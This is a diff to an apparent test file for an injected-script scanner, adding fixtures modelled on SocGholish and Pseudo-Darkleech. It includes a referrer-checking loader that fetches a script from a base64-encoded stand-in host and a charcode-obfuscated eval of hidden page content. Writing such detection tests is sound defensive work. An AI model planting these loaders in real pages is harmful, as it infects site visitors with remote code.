@@ -134,6 +134,18 @@ const FAMILIES: Record<string, { files: Files; finding: string }> = {
     ),
     finding: 'injected-script warning a.js',
   },
+  // SocGholish
+  'a loader that is given its hidden address': {
+    files: inLibrary(
+      `;(function(w,d,s,u){if(d.referrer.indexOf(w.location.host)>=0)return;var e=d.createElement(s);e.async=1;e.src=u;d.head.appendChild(e)})(window,document,'${SCRIPT}',atob('${base64(EVIL)}'));`,
+    ),
+    finding: 'injected-script error a.js',
+  },
+  // Pseudo-Darkleech
+  'hidden code that runs what stands elsewhere': {
+    files: inline(`${EVAL}(String.fromCharCode(${codes(`${EVAL}(document.getElementById('xq').innerHTML)`)}))`),
+    finding: 'injected-script warning a.html',
+  },
   'a script in an address of data': {
     files: inPage(`<script src="data:text/javascript;base64,${base64(loader(EVIL))}"></script>`),
     finding: 'injected-script warning a.html',
